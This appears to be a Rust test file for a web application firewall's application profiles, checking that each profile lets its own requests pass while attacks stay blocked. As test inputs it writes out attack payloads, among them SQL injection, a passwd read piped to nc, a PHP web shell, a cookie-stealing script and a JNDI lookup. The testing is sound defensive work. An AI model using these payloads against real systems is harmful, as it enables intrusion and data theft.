//! Profiles: what each lets pass and what it still stops, in every mode; and in the real program.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::Command;

use portcullis_config::{Profile, profiles};
use portcullis_testkit::client::exchange;
use portcullis_testkit::upstream::Response;
use serde_json::{Value, json};

use crate::revisions::Managed;
use crate::served::*;

/// With a host of its own, so that links to others are stopped.
const SITE: &str = "mode = \"semantic\"\nsemantic = { hosts = [\"app.example\"] }";
/// Profiles that the real program is started with.
const SERVED: [&str; 3] = ["nodered", "wordpress", "wordpress-plain-permalinks"];

fn run(arguments: &[&str]) -> (bool, String) {
    let output = Command::new(program()).arg("profiles").args(arguments).output().unwrap();
    (output.status.success(), String::from_utf8([output.stdout, output.stderr].concat()).unwrap())
}

fn files() -> Vec<PathBuf> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../portcullis-config/src/profiles");
    let mut files: Vec<_> = std::fs::read_dir(folder).unwrap().map(|file| file.unwrap().path()).collect();
    files.sort();
    files
}

/// Every profile lets its own requests pass in `semantic`, `both` and `crs`, stops the attacks in the same
/// places, and excludes nothing that none of its requests needs. The files are read, not what was compiled.
#[test]
fn every_profile_does_what_it_says() {
    let rules = portcullis_testkit::crs::rules().expect("run make crs");
    let files = files();
    let mut arguments = vec!["test", "--crs", rules.to_str().unwrap()];
    arguments.extend(files.iter().map(|file| file.to_str().unwrap()));
    let (ok, text) = run(&arguments);
    assert!(ok, "{text}");
    for mode in ["semantic", "both", "crs"] {
        assert_eq!(text.matches(&format!("  {mode}: ")).count(), files.len(), "{text}");
    }
}

/// What an attacker gains by a profile is what it says: attacks of all classes are tried in the places that
/// it opens, and the classes that pass are those which stand in the file.
#[test]
fn every_profile_says_what_it_lets_pass() {
    let rules = portcullis_testkit::crs::rules().expect("run make crs");
    let files = files();
    let mut arguments = vec!["test", "--opens", "--crs", rules.to_str().unwrap()];
    arguments.extend(files.iter().map(|file| file.to_str().unwrap()));
    let (ok, text) = run(&arguments);
    assert!(ok && !text.contains("was seen"), "{text}");
    let profiles =
        files.iter().map(|file| Profile::from_toml(&std::fs::read_to_string(file).unwrap()).unwrap());
    assert!(
        profiles
            .flat_map(|each| each.fields().map(|field| field.lets_pass.len()).collect::<Vec<_>>())
            .sum::<usize>()
            > 50
    );
}

/// The rules of the languages that a field may carry are those of the CRS for their subject: a rule of a
/// newer release that no language has is found here.
#[test]
fn languages_have_the_rules_of_the_crs() {
    // Shellshock, names of uploaded files and serialised objects are no text of a language.
    const OTHERS: [u32; 4] = [932_170, 932_171, 932_180, 933_170];
    const FAMILIES: [u32; 4] = [932, 933, 941, 942];
    let folder = portcullis_testkit::crs::rules().expect("run make crs");
    let profile = Profile::from_toml(CARRIES_ALL).unwrap();
    let carried = profile.fields().next().unwrap().all_rules;
    let mut seen = 0;
    for entry in std::fs::read_dir(folder.join("rules")).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|extension| extension != "conf") {
            continue;
        }
        let text = std::fs::read_to_string(path).unwrap();
        let ids = text.split("\"id:").skip(1).filter_map(|rest| rest.get(..6)?.parse::<u32>().ok());
        // Below 100 stand the rules that skip the file at other paranoia levels.
        for id in ids.filter(|id| FAMILIES.contains(&(id / 1000)) && id % 1000 >= 100) {
            assert_eq!(carried.contains(&id), !OTHERS.contains(&id), "{id}");
            seen += 1;
        }
    }
    assert!(seen > 100, "{seen}");
}

const CARRIES_ALL: &str = r#"
name = "mine"
application = "Mine"
about = "an editor"
versions = "1"
version = 1

[[change]]
version = 1
what = "first"

[[field]]
location = "json:content"
target = "ARGS:content"
carries = ["markup", "program", "sql", "templates"]
paths = ["/files/"]
reason = "the editor of files stores programs as they are"
opens = "programs of all sorts in files, by anyone who may edit"
lets_pass = ["code", "command", "path", "sqli", "ssi", "template", "xss"]

[[request]]
what = "save a file"
method = "PUT"
uri = "/files/a"
type = "application/json"
body = '{"name":"a","content":VALUE}'
value = "x"
"#;

/// Whatever mixture of code a field carries passes there; what no language has is stopped there, and all of
/// it in the fields beside it and on other paths.
#[test]
fn a_field_that_carries_code_opens_for_mixtures_and_nothing_else() {
    let profile = Profile::from_toml(CARRIES_ALL).unwrap();
    let folder = tempfile::tempdir().unwrap();
    let ask = |profile: &str, requests: &[Vec<u8>]| {
        let (file, path) = (folder.path().join("mine.toml"), folder.path().join("work.jsonl"));
        let line = |bytes: &Vec<u8>| json!({ "request": String::from_utf8_lossy(bytes) }).to_string();
        std::fs::write(&path, requests.iter().map(line).collect::<Vec<_>>().join("\n")).unwrap();
        std::fs::write(&file, profile).unwrap();
        let (file, path) = (file.to_str().unwrap(), path.to_str().unwrap());
        let (_, text) = run(&["test", file, "--requests", path, "--mode", "semantic"]);
        let line = text.lines().find(|line| line.contains("  semantic: of ")).unwrap();
        // `  semantic: of 42 requests 41 refused without the profile, 0 with it`
        let numbers = line.split(' ').filter_map(|word| word.parse::<usize>().ok());
        numbers.skip(1).collect::<Vec<_>>()
    };
    let pieces = [
        "x' OR 1=1 UNION SELECT password FROM users --",
        "; cat /etc/passwd | nc 203.0.113.9 80",
        "<?php system($_GET['c']); ?>",
        "<script>fetch('//a.example/' + document.cookie)</script>",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "../../../../etc/shadow",
    ];
    let mut texts: Vec<String> = pieces.map(str::to_owned).to_vec();
    for (first, second) in pieces.iter().flat_map(|first| pieces.map(|second| (first, second))) {
        texts.push(format!("{first}\n{second}"));
    }
    let of = |text: &str| profile.requests[0].bytes("", Some(text));
    let requests: Vec<_> = texts.iter().map(|text| of(text)).collect();
    let known = texts.len() - 1;
    let refused = ask(CARRIES_ALL, &requests);
    assert!(refused[0] >= known && refused[1] == 0, "mixtures pass where they belong: {refused:?}");
    let beside: Vec<_> = pieces
        .iter()
        .map(|text| {
            let body = json!({ "name": text, "content": "x" }).to_string();
            let head = "PUT /files/a HTTP/1.1\r\nHost: app.example\r\nContent-Type: application/json";
            format!("{head}\r\nContent-Length: {}\r\n\r\n{body}", body.len()).into_bytes()
        })
        .collect();
    assert_eq!(ask(CARRIES_ALL, &beside), [6, 6], "the field beside it is inspected");
    let elsewhere: Vec<_> = requests
        .iter()
        .map(|bytes| String::from_utf8_lossy(bytes).replace("PUT /files/a", "PUT /users/a").into_bytes())
        .collect();
    assert_eq!(ask(CARRIES_ALL, &elsewhere), [refused[0]; 2], "so is the same field of another path");
    let severe: Vec<_> =
        ["${jndi:ldap://a.example/x}", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4Kx"]
            .iter()
            .flat_map(|severe| texts.iter().map(move |text| of(&format!("{text}\n{severe}"))))
            .collect();
    assert_eq!(ask(CARRIES_ALL, &severe), [severe.len(); 2], "no code hides a lookup or an object");
    let fewer = CARRIES_ALL.replace("\"program\", \"sql\"", "\"sql\"");
    let of_programs: Vec<_> = pieces[1..3].iter().map(|text| of(text)).collect();
    assert_eq!(ask(&fewer, &of_programs), [2, 2], "a language that is not named stays closed");
}

/// A profile that says less or more of what passes is found.
#[test]
fn a_profile_that_hides_what_passes_is_found() {
    let rules = portcullis_testkit::crs::rules().expect("run make crs");
    let text =
        std::fs::read_to_string(files().iter().find(|file| file.ends_with("nodered.toml")).unwrap()).unwrap();
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("mine.toml");
    let line = text.lines().find(|line| line.starts_with("lets_pass = ")).unwrap();
    for other in ["lets_pass = []", "lets_pass = [\"command\", \"ldap\", \"path\"]"] {
        std::fs::write(&path, text.replacen(line, other, 1)).unwrap();
        let (ok, told) = run(&["test", "--opens", path.to_str().unwrap(), "--crs", rules.to_str().unwrap()]);
        assert!(!ok && told.contains("  json:flows.flows.command: lets_pass = ["), "{told}");
    }
}

/// Where something is excluded, attacks are tried; the attacks of no profile are few.
#[test]
fn every_profile_has_requests_and_attacks() {
    for file in files() {
        let profile = Profile::from_toml(&std::fs::read_to_string(&file).unwrap()).unwrap();
        let attacks: usize = profile.requests.iter().map(|request| request.attacks.len()).sum();
        assert!(!profile.requests.is_empty() && attacks > 0, "{}", profile.name);
        let paths: BTreeSet<String> = profile.exclusions("").map(|each| each.path).collect();
        assert!(attacks >= paths.len(), "{}: {attacks} attacks for {paths:?}", profile.name);
    }
}

/// A profile that opens more than it says fails its test: here an attack becomes a benign request, and an
/// exclusion that nothing needs is added.
#[test]
fn a_profile_that_opens_too_much_is_found() {
    let rules = portcullis_testkit::crs::rules().expect("run make crs");
    let text =
        std::fs::read_to_string(files().iter().find(|file| file.ends_with("nodered.toml")).unwrap()).unwrap();
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("mine.toml");
    let check = |text: &str| {
        std::fs::write(&path, text).unwrap();
        run(&["test", path.to_str().unwrap(), "--crs", rules.to_str().unwrap()])
    };
    let (ok, told) = check(&text);
    assert!(ok, "{told}");
    let wide = text.replacen("attacks = [", "attacks = [\"id; whoami\", ", 1);
    let (ok, told) = check(&wide);
    assert!(!ok && told.contains("passes with the profile: ") && told.contains(": id; whoami"), "{told}");
    let needless = text.replacen("kinds = [", "kinds = [\"ldap.filter\", ", 1);
    let (ok, told) = check(&needless);
    assert!(!ok && told.contains("no request needs ldap.filter in json:"), "{told}");
    let (ok, told) = check("name = \"mine\"\n");
    assert!(!ok && told.contains("mine.toml: "), "{told}");
}

#[test]
fn recorded_requests_are_shown_without_and_with_a_profile() {
    let folder = tempfile::tempdir().unwrap();
    let profile = profiles().iter().find(|profile| profile.name == "wordpress").unwrap();
    let lines: Vec<String> = profile.requests[..2]
        .iter()
        .map(|request| {
            json!({ "request": String::from_utf8(request.bytes("/blog", None)).unwrap() }).to_string()
        })
        .collect();
    let path = folder.path().join("work.jsonl");
    std::fs::write(&path, lines.join("\n")).unwrap();
    let ask = |more: &[&str]| {
        let arguments = ["test", "wordpress", "--mode", "semantic", "--requests", path.to_str().unwrap()];
        run(&[&arguments[..], more].concat())
    };
    let (ok, told) = ask(&["--path", "/blog"]);
    assert!(ok && told.contains("of 2 requests 2 refused without the profile, 0 with it"), "{told}");
    let (ok, told) = ask(&[]);
    assert!(!ok && told.contains("2 refused without the profile, 2 with it"), "{told}");
    assert!(told.contains("xss.script-code in json:content"), "{told}");
}

/// Profiles of one site are tried together: each does what it says, and what one of them opens counts in the
/// places of the others, too.
#[test]
fn profiles_of_one_site_are_tried_together() {
    let (ok, text) = run(&["test", "wordpress", "--with", "woocommerce,elementor", "--mode", "semantic"]);
    assert!(ok, "{text}");
    for heading in
        ["wordpress with woocommerce, elementor", "woocommerce with wordpress, elementor", "elementor with "]
    {
        assert_eq!(text.matches(heading).count(), 1, "{heading}: {text}");
    }
    // One that opens all paths of the site: alone it does what it says, beside another one it does not.
    let folder = tempfile::tempdir().unwrap();
    let write = |name: &str, field: &str, request: &str| {
        let path = folder.path().join(format!("{name}.toml"));
        let text = format!(
            "name = \"{name}\"\napplication = \"{name}\"\nabout = \"a test\"\nversions = \"1\"\nversion = 1\n[[change]]\n\
             version = 1\nwhat = \"first version\"\n{field}{request}"
        );
        std::fs::write(&path, text).unwrap();
        path.display().to_string()
    };
    let request = |uri: &str, rest: &str| {
        format!(
            "[[request]]\nwhat = \"a note\"\nuri = \"{uri}\"\ntype = \"application/x-www-form-urlencoded\"\nbody = \
             \"note=VALUE\"\n{rest}\n"
        )
    };
    let attack = "1' union select password from users--";
    let narrow =
        write("narrow", "", &request("/narrow", &format!("value = \"a\"\nattacks = [\"{attack}\"]")));
    let kinds: Vec<String> = {
        let shown = run(&[
            "test",
            &write("shown", "", &request("/narrow", &format!("value = \"{attack}\""))),
            "--mode",
            "semantic",
        ])
        .1;
        shown
            .lines()
            .filter_map(|line| line.trim().strip_suffix(" in form:note"))
            .map(|kind| format!("\"{kind}\""))
            .collect()
    };
    assert!(!kinds.is_empty());
    let field = format!(
        "[[field]]\nlocation = \"form:note\"\nkinds = [{}]\npaths = [\"/*\"]\nreason = \"notes are \
         made for statements of a database\"\nopens = \"whoever writes a note gets statements through\"\n",
        kinds.join(", ")
    );
    let wide = write("wide", &field, &request("/wide", &format!("value = \"{attack}\"")));
    for alone in [&narrow, &wide] {
        let (ok, text) = run(&["test", alone, "--mode", "semantic"]);
        assert!(ok, "{text}");
    }
    for (name, other) in [(&narrow, &wide), (&wide, &narrow)] {
        let (ok, text) = run(&["test", name, "--with", other, "--mode", "semantic"]);
        assert!(!ok && text.contains("narrow with wide\n") && text.contains("wide with narrow\n"), "{text}");
        assert!(text.contains(&format!("passes with the profile: a note: {attack}")), "{text}");
    }
    let (ok, text) = run(&["test", "wordpress", "--with", "woocomerce"]);
    assert!(!ok && text.contains("did you mean `woocommerce`?"), "{text}");
}

/// The status of a request of a profile, its path below `root`.
fn ask(managed: &Managed, request: &[u8]) -> u16 {
    exchange(managed.address, None, request, PATIENCE).unwrap().status
}

#[test]
fn each_exclusion_lets_its_own_request_pass_and_no_more() {
    let application = application(|_| says("found"));
    let served = || profiles().iter().filter(|profile| SERVED.contains(&profile.name.as_str()));
    let requests = || served().flat_map(|profile| &profile.requests);
    let folder = tempfile::tempdir().unwrap();
    let without = Managed::start(folder.path(), application.address(), SITE, "");
    let mut refused = Vec::new();
    for request in requests() {
        refused.push(ask(&without, &request.bytes("", None)) == 403);
        for attack in &request.attacks {
            let status = ask(&without, &request.bytes("", Some(attack)));
            assert_eq!(status, 403, "{}: {attack}", request.what);
        }
    }
    assert!(refused.iter().filter(|refused| **refused).count() > 8);
    without.stop();
    let folder = tempfile::tempdir().unwrap();
    let site = format!("{SITE}\nprofiles = {SERVED:?}");
    let managed = Managed::start(folder.path(), application.address(), &site, "");
    for (request, was_refused) in requests().zip(refused) {
        assert_eq!(ask(&managed, &request.bytes("", None)), 200, "{}", request.what);
        for attack in &request.attacks {
            let status = ask(&managed, &request.bytes("", Some(attack)));
            assert_eq!(status, 403, "{}: {attack}", request.what);
        }
        // Nobody carries it to another application, or to a path that becomes another one.
        for root in ["/other.php", "/x/..", "/"].iter().filter(|_| was_refused) {
            assert_eq!(ask(&managed, &request.bytes(root, None)), 403, "{root}: {}", request.what);
        }
    }
    let listed = || {
        let (status, listed) = managed.ask("GET", "/exclusions", &Value::Null);
        assert_eq!(status, 200, "{listed}");
        listed["items"].as_array().unwrap().clone()
    };
    assert_eq!(listed().len(), served().map(|profile| profile.exclusions("").count()).sum::<usize>());
    until(|| listed().iter().any(|each| each["use"]["hits"].as_u64() > Some(0)));
    for each in listed() {
        assert_eq!((&each["origin"], each["reason"].is_string()), (&json!("profile"), true), "{each}");
        assert!(each["opens"].is_string() && SERVED.contains(&each["profile"].as_str().unwrap()), "{each}");
        assert!(each["kind"].is_string() != (each["rules"] != json!([])), "{each}");
        let path = format!("/exclusions/{}", each["id"].as_str().unwrap());
        let (status, refused) = managed.ask("DELETE", &path, &Value::Null);
        let told = refused["detail"].to_string();
        assert!(status == 409 && told.contains("is of the profile"), "{status} {refused}");
    }
    managed.stop();
}

/// What everyone may send stays inspected: comments, routes of plugins, and pages by the address that only
/// plain permalinks need.
#[test]
fn wordpress_opens_no_other_route() {
    let application = application(|_| says("found"));
    let folder = tempfile::tempdir().unwrap();
    let site = format!("{SITE}\nprofiles = [\"wordpress\"]");
    let managed = Managed::start(folder.path(), application.address(), &site, "");
    let post = &profiles().iter().find(|profile| profile.name == "wordpress").unwrap().requests[0];
    let text = String::from_utf8(post.bytes("", None)).unwrap();
    for path in [
        "/wp-json/wp/v2/comments",
        "/wp-json/plugin/v1/submit",
        "/index.php?rest_route=/wp/v2/pages/3",
        "/index.php?rest_route=/plugin/v1/submit",
    ] {
        assert_eq!(ask(&managed, text.replacen(&post.uri, path, 1).as_bytes()), 403, "{path}");
    }
    managed.stop();
}

/// An application below a path takes its profile there, and nowhere else.
#[test]
fn a_profile_is_for_the_path_that_the_site_says() {
    let application = application(|_| says("found"));
    let folder = tempfile::tempdir().unwrap();
    let site = format!("{SITE}\nprofiles = [\"nodered\", {{ name = \"wordpress\", path = \"/blog\" }}]");
    let managed = Managed::start(folder.path(), application.address(), &site, "");
    let post = &profiles().iter().find(|profile| profile.name == "wordpress").unwrap().requests[0];
    assert_eq!(ask(&managed, &post.bytes("/blog", None)), 200);
    for root in ["", "/shop", "/x/blog", "/blog/x", "/blogs"] {
        assert_eq!(ask(&managed, &post.bytes(root, None)), 403, "{root}");
    }
    let (_, listed) = managed.ask("GET", "/exclusions", &Value::Null);
    let mut of_blog =
        listed["items"].as_array().unwrap().iter().filter(|each| each["profile"] == "wordpress");
    let one = of_blog.next().unwrap();
    assert!(one["path"].as_str().unwrap().starts_with("/blog/wp-"), "{one}");
    let path = format!("/exclusions/{}", one["id"].as_str().unwrap());
    let (status, refused) = managed.ask("DELETE", &path, &Value::Null);
    assert!(
        status == 409 && refused["detail"].to_string().contains("is of the profile `wordpress`"),
        "{refused}"
    );
    managed.stop();
}

/// They count on routes with settings of their own, too; a reload that takes the name out ends them.
#[test]
fn a_profile_is_of_the_whole_site_and_ends_with_its_name() {
    let application = application(|_| says("found"));
    let folder = tempfile::tempdir().unwrap();
    let post = &profiles().iter().find(|profile| profile.name == "wordpress").unwrap().requests[0];
    let site = "mode = \"semantic\"\nprofiles = [\"wordpress\"]\n\
                routes = [{ path = \"/wp-json/\", upstream = \"app\", semantic = { classes = { xss = \"block\" } } }]";
    let managed = Managed::start(folder.path(), application.address(), site, "");
    assert_eq!(ask(&managed, &post.bytes("", None)), 200);
    let text = managed.text().replace("profiles = [\"wordpress\"]", "profiles = []");
    let (status, answer) = managed.ask("PUT", "/config", &json!({ "text": text }));
    assert_eq!(status, 200, "{answer}");
    assert_eq!(ask(&managed, &post.bytes("", None)), 403);
    let (_, listed) = managed.ask("GET", "/exclusions", &Value::Null);
    assert_eq!(listed["items"], json!([]));
    managed.stop();
}

#[test]
fn the_command_tells_what_each_opens() {
    let (ok, all) = run(&[]);
    assert!(ok && all.lines().count() == profiles().len(), "{all}");
    for profile in profiles() {
        assert!(all.lines().any(|line| line.starts_with(&format!("{} ", profile.name))), "{all}");
    }
    let (ok, one) = run(&["wordpress"]);
    let wordpress = profiles().iter().find(|profile| profile.name == "wordpress").unwrap();
    assert!(ok && one.starts_with("wordpress: WordPress "), "{one}");
    assert_eq!(one.matches("    opens: ").count(), wordpress.exclusions("").count());
    let (ok, error) = run(&["wordpres"]);
    assert!(!ok && error.contains("did you mean `wordpress`?"), "{error}");
    let (ok, error) = run(&["test", "wordpres"]);
    assert!(!ok && error.contains("did you mean `wordpress`?"), "{error}");
}

/// A site whose answers look like a known application is told so once, and nothing is switched on; what takes
/// its profile already is not told.
#[test]
fn a_known_application_is_told_once() {
    let grafana = "<!DOCTYPE html><html><head><title>Grafana</title></head><body><script>window.grafanaBootData = {};\
                   </script></body></html>";
    let application = application(move |request| match request.target.as_str() {
        "/login" => says(grafana),
        // One word of it, and what nobody looks at.
        "/missing" => Response { status: 404, ..says(grafana) },
        _ => says("<html><head><title>Grafana and others</title></head></html>"),
    });
    let served = Served::start_site(&application, "mode = \"semantic\"", "");
    let known = "portcullis_recognised_applications{site=\"site\",profile=\"grafana\"} 1";
    for target in ["/", "/missing", "/"] {
        served.get(target);
    }
    assert!(!served.metrics().contains(known));
    for _ in 0..3 {
        served.get("/login");
    }
    assert!(served.metrics().contains(known), "{}", served.metrics());
    let logged = log(served);
    let told = logged.lines().filter(|line| line.contains("look like Grafana")).collect::<Vec<_>>();
    assert_eq!(told.len(), 1, "{logged}");
    assert!(told[0].contains("profiles = [\"grafana\"]") && told[0].contains("title grafana"), "{told:?}");

    let site = "mode = \"semantic\"\nprofiles = [\"grafana\"]";
    let served = Served::start_site(&application, site, "");
    assert_eq!(served.get("/login").status(), 200);
    assert!(served.metrics().contains(known));
    assert!(!log(served).contains("look like"));
}

/// What a site looks like is offered by the API with what its profile opens, until the site takes it.
#[test]
fn a_known_application_is_offered_until_it_is_taken() {
    let page = "<!DOCTYPE html><html><head><title>Grafana</title></head><body><script>window.grafanaBootData = {};\
                </script></body></html>";
    let application = application(move |_| Response {
        headers: vec![("Content-Type".into(), "text/html".into())],
        ..says(page)
    });
    let folder = tempfile::tempdir().unwrap();
    let managed = Managed::start(folder.path(), application.address(), SITE, "");
    let offers = || {
        let (status, sites) = managed.ask("GET", "/sites", &Value::Null);
        assert_eq!(status, 200, "{sites}");
        sites["items"][0]["looks_like"].clone()
    };
    assert_eq!(offers(), json!([]));
    assert_eq!(ask(&managed, b"GET / HTTP/1.1\r\nHost: app.example\r\nConnection: close\r\n\r\n"), 200);
    until(|| offers() != json!([]));
    let offered = offers();
    let grafana = profiles().iter().find(|profile| profile.name == "grafana").unwrap();
    assert_eq!((&offered[0]["profile"], &offered[1]), (&json!("grafana"), &Value::Null));
    assert_eq!(offered[0]["exclusions"], grafana.exclusions("").count());
    assert_eq!(offered[0]["signs"][0], "title grafana");
    assert_eq!(offered[0]["opens"].as_array().unwrap().len(), grafana.fields().count());
    assert!(offered[0]["opens"][0]["opens"].as_str().unwrap().len() > 20, "{offered}");
    let take = json!({"changes": [{"path": "/sites/0/profiles/-", "value": "grafana"}]});
    let (status, answer) = managed.ask("PATCH", "/config", &take);
    assert_eq!(status, 200, "{answer}");
    assert_eq!(offers(), json!([]));
    managed.stop();
}

/// An application that shows a version which its profile was not written for is told once, whether the site
/// takes the profile or not; one of a known version is not. The version may stand in a later answer.
#[test]
fn an_unknown_version_is_told_once() {
    let page = |version: &str| {
        format!(
            "<html><head><title>Garden</title><meta name=\"generator\" content=\"WordPress {version}\"><link rel=\"stylesheet\" \
             href=\"/wp-includes/css/x.css\"></head></html>"
        )
    };
    let unknown = "portcullis_unknown_application_versions{site=\"site\",profile=\"wordpress\"} 1";
    for (version, profiles, is_unknown) in
        [("97.2", "[]", true), ("97.2", "[\"wordpress\"]", true), ("6.9.4", "[\"wordpress\"]", false)]
    {
        let page = page(version);
        let application = application(move |request| match request.target.as_str() {
            "/login" => says(
                "<html><head><title>Log in</title><link rel=\"stylesheet\" href=\"/wp-content/a.css\"><script \
                 src=\"/wp-includes/a.js\"></script></head></html>",
            ),
            _ => says(&page),
        });
        let site = format!("mode = \"semantic\"\nprofiles = {profiles}");
        let served = Served::start_site(&application, &site, "");
        served.get("/login");
        assert!(!served.metrics().contains(unknown));
        for _ in 0..3 {
            served.get("/");
        }
        assert_eq!(served.metrics().contains(unknown), is_unknown, "{version} {profiles}");
        let logged = log(served);
        let told = logged.lines().filter(|line| line.contains("WordPress answers as version 97.2"));
        assert_eq!(told.count(), usize::from(is_unknown), "{logged}");
    }
}

/// What a site costs is bounded: after so many answers that are nothing known, none is looked at any more.
#[test]
fn a_site_is_not_looked_at_for_ever() {
    let application = application(|request| match request.target.as_str() {
        "/login" => says("<title>Grafana</title><script>window.grafanaBootData = {};</script>"),
        _ => says("<html><head><title>Shop</title></head></html>"),
    });
    let served = Served::start_site(&application, "mode = \"semantic\"", "");
    for at in 0..70 {
        served.get(if at < 69 { "/" } else { "/login" });
    }
    assert!(!served.metrics().contains("portcullis_recognised_applications{"));
    assert!(!log(served).contains("look like"));
}

/// Ends the program; what it logged.
fn log(served: Served) -> String {
    let folder = served.stop();
    std::fs::read_to_string(folder.path().join("output")).unwrap()
}

/// What recorded work has taught a site becomes a draft, which a person goes on with: it says what is
/// missing, and once that is there, it is a profile that does what it says.
#[test]
fn a_draft_comes_from_what_a_site_has_learned() {
    let folder = tempfile::tempdir().unwrap();
    let data = folder.path().join("data");
    let data = data.to_str().unwrap();
    let statement = "SELECT name, total FROM orders WHERE total > 5 UNION SELECT name, 0 FROM customers";
    let body = json!({ "report": { "code7": statement } }).to_string();
    let lines: Vec<String> = (0..40)
        .map(|number| {
            let request = format!(
                "POST /reports/{number}/run HTTP/1.1\r\nHost: app.example\r\nCookie: session=a{number}b7c9d1e3f\r\n\
                 Content-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
                body.len()
            );
            json!({ "request": request }).to_string()
        })
        .collect();
    let work = folder.path().join("work.jsonl");
    std::fs::write(&work, lines.join("\n")).unwrap();
    let program = |arguments: &[&str]| {
        let output = Command::new(program()).args(arguments).output().unwrap();
        (output.status.success(), String::from_utf8([output.stdout, output.stderr].concat()).unwrap())
    };
    let (ok, told) = program(&["learn", work.to_str().unwrap(), "--site", "shop", "--data", data]);
    assert!(ok, "{told}");
    let export =
        std::fs::read_dir(folder.path().join("data/learned")).unwrap().next().unwrap().unwrap().path();
    let (ok, text) = run(&["new", "reports", "--from", export.to_str().unwrap()]);
    assert!(ok, "{text}");
    assert!(
        text.contains("location = \"json:report.code7\"") && text.contains("[\"/reports/{number}/run$\"]"),
        "{text}"
    );
    let draft = folder.path().join("reports.toml");
    let test = |text: &str| {
        std::fs::write(&draft, text).unwrap();
        run(&["test", draft.to_str().unwrap(), "--mode", "semantic"])
    };
    let (ok, told) = test(&text);
    assert!(!ok && told.contains("still to be written: reason of json:report.code7"), "{told}");
    let statement = serde_json::to_string(statement).unwrap();
    let finished = text
        .replace("\"TODO: what users write there, with what is found in it\"", &statement)
        .replace("TODO: ", "");
    let (ok, told) = test(&finished);
    assert!(ok && told.contains("1 requests, 1 refused without the profile, 0 wrong with it"), "{told}");

    let (ok, told) = run(&["diff", draft.to_str().unwrap(), "--with", draft.to_str().unwrap()]);
    assert!(ok && told == "no difference\n", "{told}");
    let other = folder.path().join("other.toml");
    std::fs::write(&other, finished.replace("/run$", "/start$")).unwrap();
    let (ok, told) = run(&["diff", draft.to_str().unwrap(), "--with", other.to_str().unwrap()]);
    assert!(!ok && told.contains("- exclusion of ") && told.contains("+ exclusion of "), "{told}");
    assert!(told.contains("in json:report.code7 of /reports/{number}/start$"), "{told}");
    // A site whose data is there, by its name.
    let (ok, told) = run(&["new", "reports", "--from", "nowhere", "--data", data]);
    assert!(!ok && told.contains("site nowhere has learned nothing"), "{told}");
    let (ok, told) = run(&["diff", "wordpress"]);
    assert!(!ok && told.contains("--with"), "{told}");
}
